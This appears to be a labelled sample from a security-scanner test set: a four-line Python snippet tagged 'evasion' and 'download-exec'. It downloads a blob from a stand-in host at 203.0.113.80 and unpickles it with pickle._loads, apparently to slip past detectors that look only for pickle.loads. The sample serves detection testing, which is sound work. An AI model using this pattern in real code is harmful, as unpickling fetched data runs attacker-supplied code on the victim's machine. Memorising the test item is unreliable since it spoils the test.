# evasion: pickle's pure-Python twin pickle._loads of a downloaded state blob
# grade: medium; does: download-exec
import pickle
import urllib.request

data = urllib.request.urlopen("http://203.0.113.80/state").read()
pickle._loads(data)
